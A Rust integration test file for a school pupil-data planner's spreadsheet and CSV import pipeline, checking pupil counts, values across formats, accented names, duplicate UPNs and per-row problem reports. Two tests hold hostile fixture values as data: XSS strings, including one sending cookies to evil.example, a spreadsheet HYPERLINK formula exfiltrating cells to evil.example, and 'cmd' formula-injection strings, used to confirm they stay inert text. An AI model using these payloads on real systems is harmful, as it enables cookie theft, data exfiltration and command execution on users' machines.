//! The whole import pipeline on the real fixtures (tests/fixtures, see its README):
//! bytes → `read_file` → `plan` → `build`, checking counts, values across formats, and
//! that every problem in the messy files is reported at the right row and column.

use chrono::NaiveDate;
use planner::core::drop::DataDrop;
use planner::core::import::build::{build, plan, ImportPlan, ImportReport};
use planner::core::import::mapping::{Field, MappingMemory};
use planner::core::import::read::{read_file, Limits};
use planner::core::pupil::Pupil;
use planner::core::value::{SenStatus, Upn, YearGroup};

const FIXTURES: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/");

fn fixture(name: &str) -> Vec<u8> {
    let path = format!("{FIXTURES}{name}");
    std::fs::read(&path).unwrap_or_else(|error| panic!("cannot read {path}: {error}"))
}

/// Imports a fixture with no remembered mappings.
fn import(name: &str) -> (ImportPlan, ImportReport) {
    let wb = read_file(&fixture(name), &Limits::default())
        .unwrap_or_else(|error| panic!("{name} was refused: {error}"));
    let plan = plan(&wb, &MappingMemory::default())
        .unwrap_or_else(|error| panic!("{name} has no plan: {error}"));
    let report = build(&wb, &plan);
    assert_eq!(
        report.rows_read,
        report.imported() + report.skipped.len(),
        "{name}: every row read is imported or skipped"
    );
    (plan, report)
}

fn date(text: &str) -> Option<NaiveDate> {
    NaiveDate::parse_from_str(text, "%d/%m/%Y").ok()
}

fn by_upn<'a>(report: &'a ImportReport, upn: &str) -> &'a Pupil {
    let upn = Upn::parse(upn).expect("a valid UPN in the test");
    report
        .pupils
        .iter()
        .find(|pupil| pupil.upn.as_ref() == Some(&upn))
        .unwrap_or_else(|| panic!("no pupil with UPN {upn}"))
}

/// What the CSV says about one pupil: UPN, DOB, year group, SEN status, attendance in
/// hundredths of a percent.
struct Expected {
    upn: &'static str,
    date_of_birth: &'static str,
    year_group: YearGroup,
    sen: SenStatus,
    attendance: u32,
}

fn check(report: &ImportReport, expected: &Expected, file: &str) {
    let pupil = by_upn(report, expected.upn);
    assert_eq!(
        pupil.date_of_birth,
        date(expected.date_of_birth),
        "{file} {}",
        expected.upn
    );
    assert_eq!(
        pupil.year_group,
        Some(expected.year_group),
        "{file} {}",
        expected.upn
    );
    assert_eq!(
        pupil.sen_status,
        Some(expected.sen),
        "{file} {}",
        expected.upn
    );
    assert_eq!(
        pupil.attendance.map(|percent| percent.hundredths()),
        Some(expected.attendance),
        "{file} {}",
        expected.upn
    );
}

#[test]
fn primary_210_imports_the_same_pupils_from_every_format() {
    let expected = [
        Expected {
            upn: "W373210125361",
            date_of_birth: "24/07/2021",
            year_group: YearGroup::Reception,
            sen: SenStatus::NoSen,
            attendance: 9220,
        },
        Expected {
            upn: "U373234525537",
            date_of_birth: "16/05/2021",
            year_group: YearGroup::Reception,
            sen: SenStatus::SenSupport,
            attendance: 9510,
        },
        Expected {
            upn: "D373210124708",
            date_of_birth: "09/12/2019",
            year_group: YearGroup::Year(1),
            sen: SenStatus::EhcPlan,
            attendance: 9670,
        },
        Expected {
            upn: "B373210119276",
            date_of_birth: "27/01/2015",
            year_group: YearGroup::Year(6),
            sen: SenStatus::NoSen,
            attendance: 8980,
        },
    ];
    let (_, csv) = import("primary_210.csv");
    for file in [
        "primary_210.csv",
        "primary_210.xlsx",
        "primary_210.ods",
        "primary_210.xls",
        "primary_210_textdates.xlsx",
    ] {
        let (plan, report) = import(file);
        assert_eq!(plan.header_row, 0, "{file}");
        assert_eq!(report.imported(), 210, "{file}");
        assert!(report.issues.is_empty(), "{file}: {:#?}", report.issues);
        assert!(report.skipped.is_empty(), "{file}: {:#?}", report.skipped);
        for pupil in &expected {
            check(&report, pupil, file);
        }
        assert_eq!(
            report.pupils, csv.pupils,
            "{file} matches the CSV in every value"
        );
    }
    let siobhan = by_upn(&csv, "U373234525537");
    assert_eq!(siobhan.surname, "O'Neill");
    assert_eq!(siobhan.forename, "Siobhán");
    let reading = &siobhan.attainment[0];
    assert_eq!(reading.subject, "Reading");
    assert_eq!(reading.current.as_deref(), Some("Emerging"));
}

#[test]
fn secondary_1200_imports_the_same_pupils_from_xlsx_and_csv() {
    let (plan, csv) = import("secondary_1200.csv");
    let (_, xlsx) = import("secondary_1200.xlsx");
    assert_eq!(csv.imported(), 1200);
    assert_eq!(xlsx.imported(), 1200);
    assert!(csv.issues.is_empty(), "{:#?}", csv.issues);
    assert!(xlsx.issues.is_empty(), "{:#?}", xlsx.issues);
    assert_eq!(xlsx.pupils, csv.pupils);
    assert_eq!(
        plan.mapping.field(26),
        &Field::AttainmentPrior("Reading".to_string())
    );
    let rafi = by_upn(&xlsx, "C373373918849");
    assert_eq!(rafi.date_of_birth, date("30/01/2014"));
    assert_eq!(rafi.sen_status, Some(SenStatus::SenSupport));
    assert_eq!(rafi.attendance.map(|p| p.hundredths()), Some(9710));
    let maths = rafi
        .attainment
        .iter()
        .find(|a| a.subject == "Maths")
        .expect("maths attainment");
    assert_eq!(
        (
            maths.prior.as_deref(),
            maths.current.as_deref(),
            maths.target.as_deref()
        ),
        (Some("101"), Some("1"), Some("3"))
    );
}

#[test]
fn messy_sims_report_finds_the_list_and_reports_every_problem_by_row() {
    let (plan, report) = import("messy_sims_report.xlsx");
    // The "Pupil List" sheet, not "Key"; headings on row 5, below two title rows, a
    // blank row and a merged group-header row.
    assert_eq!(plan.sheet, 0);
    assert_eq!(plan.header_row, 4);
    assert_eq!(plan.headings[5], "D.O.B.");
    assert!(!plan.mapping.columns.contains(&Field::Ignore));
    assert_eq!(report.imported(), 600);
    assert_eq!(report.rows_read, 603);
    assert_eq!(report.blank_rows, 4);
    let skipped: Vec<(usize, &str)> = report
        .skipped
        .iter()
        .map(|skip| (skip.row, skip.reason.as_str()))
        .collect();
    assert_eq!(
        skipped,
        [
            (609, "same pupil as row 11"),
            (611, "a totals row"),
            (612, "a footer line, not a pupil"),
        ]
    );
    let issues: Vec<(usize, Option<&str>, &str)> = report
        .issues
        .iter()
        .map(|issue| (issue.row, issue.column.as_deref(), issue.value.as_str()))
        .collect();
    assert_eq!(
        issues,
        [
            (16, Some("A"), "B373379918086"),
            (26, Some("A"), ""),
            (609, Some("A"), "D373238518323"),
        ]
    );
    assert!(report.issues[0].problem.contains("should be M, not B"));
    assert!(report.issues[1].problem.contains("has none"));
    assert!(report.issues[2].problem.contains("same pupil as row 11"));
    assert!(report
        .issues
        .iter()
        .all(|issue| issue.sheet == "Pupil List"));

    // Row 16: imported without its UPN. Row 26: imported with no UPN at all.
    let ines = &report.pupils[10];
    assert_eq!(
        (ines.surname.as_str(), ines.upn.as_ref()),
        ("Conceição", None)
    );
    let nabil = &report.pupils[20];
    assert_eq!(
        (nabil.forename.as_str(), nabil.upn.as_ref()),
        ("Nabil", None)
    );
    // Lower-case and space-padded UPNs are read (rows 36 and 46).
    by_upn(&report, "J373204518226");
    by_upn(&report, "W373239518549");
    // Mixed date and percentage forms in one column, names trimmed only.
    let solomiia = by_upn(&report, "J373275618919");
    assert_eq!(solomiia.forename, "Solomiia");
    assert_eq!(solomiia.date_of_birth, date("21/04/2014"));
    assert_eq!(solomiia.year_group, Some(YearGroup::Year(7)));
    assert_eq!(solomiia.sen_status, Some(SenStatus::NoSen));
    let zygimantas = by_upn(&report, "D373202518564");
    assert_eq!(zygimantas.date_of_birth, date("07/12/2013"));
    assert_eq!(zygimantas.attendance.map(|p| p.hundredths()), Some(9140));
    let katherine = by_upn(&report, "U373371318374");
    assert_eq!(katherine.date_of_birth, date("07/05/2014"));
    assert_eq!(katherine.attendance.map(|p| p.hundredths()), Some(9710));
    let xinyi = by_upn(&report, "D202369118819");
    assert_eq!(xinyi.date_of_birth, date("30/06/2014"));
    let english = &xinyi.attainment[2];
    assert_eq!(english.subject, "English");
    assert_eq!(
        (english.current.as_deref(), english.target.as_deref()),
        (Some("3"), Some("5"))
    );
}

#[test]
fn messy_csv_files_keep_accented_names_and_list_shared_upns() {
    let (plan, utf8) = import("messy_utf8_bom.csv");
    let (_, cp1252) = import("messy_cp1252.csv");
    assert_eq!(
        plan.headings[0], "UPN",
        "the byte-order mark is not part of a heading"
    );
    assert_eq!(utf8.rows_read, 300);
    assert_eq!(cp1252.rows_read, 300);
    assert_eq!(cp1252.imported(), 300);
    // Row 287 of the UTF-8 file repeats row 51 in every column: the same pupil twice.
    assert_eq!(utf8.imported(), 299);
    assert_eq!(utf8.skipped.len(), 1);
    assert_eq!(utf8.skipped[0].row, 287);
    assert_eq!(utf8.skipped[0].reason, "same pupil as row 51");
    for (report, shared_upns) in [(&utf8, 52), (&cp1252, 53)] {
        let names: Vec<(&str, &str)> = report.pupils[..4]
            .iter()
            .map(|p| (p.surname.as_str(), p.forename.as_str()))
            .collect();
        // Windows-1252 cannot hold "ễ": Excel wrote "?" in its place.
        let vietnamese = if std::ptr::eq(report, &cp1252) {
            "Nguy?n"
        } else {
            "Nguyễn"
        };
        assert_eq!(
            names,
            [
                ("O'Connor", "Zoë"),
                ("Ní Bhriain", "Siobhán"),
                (vietnamese, "Minh"),
                ("Lefèvre", "Chloé"),
            ]
        );
        let jose = by_upn(report, "K373226918317");
        assert_eq!(
            (jose.surname.as_str(), jose.forename.as_str()),
            ("Muñoz", "José")
        );
        // 53 UPNs are shared by two different pupils (52 in the UTF-8 file, whose 53rd
        // pair is the repeated row): the later ones keep their row but lose the UPN,
        // each with an issue naming the earlier row.
        let shared = report
            .issues
            .iter()
            .filter(|issue| issue.problem.starts_with("duplicate UPN, also on row"))
            .count();
        assert_eq!(shared, shared_upns);
        let first = &report.issues[0];
        assert_eq!((first.row, first.column.as_deref()), (84, Some("A")));
        assert!(first.problem.contains("also on row 2"));
    }
    let first = &cp1252.pupils[0];
    assert_eq!(
        first.extra,
        vec![
            ("Dinner Balance".to_string(), "£12.50".to_string()),
            ("Notes".to_string(), "Allergy: nuts, eggs".to_string()),
        ]
    );
}

#[test]
fn hostile_names_are_kept_as_text() {
    let (_, report) = import("hostile_script_names.csv");
    assert_eq!(report.imported(), 40);
    let first = by_upn(&report, "J373275618919");
    assert_eq!(first.surname, "<script>alert('xss')</script>");
    assert_eq!(first.preferred_name.as_deref(), Some("${7*7}"));
    assert_eq!(
        first.class.as_deref(),
        Some("<script>document.location='http://evil.example/?c='+document.cookie</script>")
    );
    let second = by_upn(&report, "C373373918849");
    assert_eq!(second.surname, "<img src=x onerror=alert(1)>");
    let longest = report
        .pupils
        .iter()
        .map(|p| p.surname.chars().count().max(p.forename.chars().count()))
        .chain(
            report
                .pupils
                .iter()
                .filter_map(|p| p.preferred_name.as_ref().map(|n| n.chars().count())),
        )
        .max();
    assert!(
        longest >= Some(5000),
        "the 5,000-character name is kept whole"
    );
}

#[test]
fn formula_cells_are_kept_as_text() {
    let (_, report) = import("hostile_formula_injection.csv");
    assert!(report.imported() > 0);
    let first = by_upn(&report, "J373275618919");
    assert_eq!(
        first.surname,
        "=HYPERLINK(\"http://evil.example/steal?d=\"&A2&B2,\"Click for report\")"
    );
    assert_eq!(
        first.extra,
        vec![("Notes".to_string(), "-2+3+cmd|' /C calc'!A0".to_string())]
    );
    let second = by_upn(&report, "C373373918849");
    assert_eq!(second.forename, "+cmd|' /C calc'!A0");
    assert_eq!(
        second.extra,
        vec![("Notes".to_string(), "=1+1".to_string())]
    );
}

#[test]
fn unusable_files_never_reach_a_plan() {
    for name in [
        "hostile_truncated.xlsx",
        "hostile_pdf_renamed.xlsx",
        "hostile_empty.xlsx",
        "hostile_password_protected.xlsx",
    ] {
        let outcome = read_file(&fixture(name), &Limits::default())
            .and_then(|wb| plan(&wb, &MappingMemory::default()));
        assert!(outcome.is_err(), "{name} should be refused");
    }
    let (_, report) = import("hostile_huge_dimension.xlsx");
    assert_eq!(report.imported(), 3);
}

#[test]
fn an_imported_file_becomes_a_data_drop_for_its_term() {
    let (plan, report) = import("primary_210.xlsx");
    let today = NaiveDate::from_ymd_opt(2026, 3, 13).expect("a date");
    let drop = DataDrop::new(today, "primary_210.xlsx", plan, report.pupils);
    assert_eq!(drop.label(), "Spring 2025/26");
    assert_eq!(drop.pupils.len(), 210);
}

#[test]
fn a_file_with_only_upn_surname_and_forename_imports_and_everything_else_is_unknown() {
    use planner::core::profile::Profile;
    use planner::core::scoring::{score, MarkerLevel, ScoringContext};
    let text = "Pupil UPN;Last name;First name\r\nW373210125361;Wright;Harry Tyler\r\nY373210125123;Warsame;Nasra\r\n";
    let wb = read_file(text.as_bytes(), &Limits::default()).expect("a minimal CSV is readable");
    let plan = plan(&wb, &MappingMemory::default()).expect("UPN and names are enough");
    assert_eq!(
        plan.mapping.columns,
        vec![Field::Upn, Field::Surname, Field::Forename]
    );
    let report = build(&wb, &plan);
    assert_eq!(report.imported(), 2);
    assert!(report.issues.is_empty(), "{:?}", report.issues);
    let pupil = &report.pupils[0];
    assert_eq!(pupil.surname, "Wright");
    assert_eq!(pupil.forename, "Harry Tyler");
    assert_eq!(pupil.date_of_birth, None);
    assert_eq!(pupil.sen_status, None);
    assert_eq!(pupil.attendance, None);
    // Unknown values score nothing and are shown as unknown, never as "no".
    let context = ScoringContext::new(NaiveDate::from_ymd_opt(2026, 3, 13).expect("a real date"));
    let scored = score(pupil, &Profile::universal(), &context);
    assert_eq!(scored.overall.thousandths(), 0);
    assert!(scored
        .factors
        .iter()
        .all(|factor| !factor.known && !factor.coloured));
    assert_eq!(scored.attendance, MarkerLevel::Unknown);
}
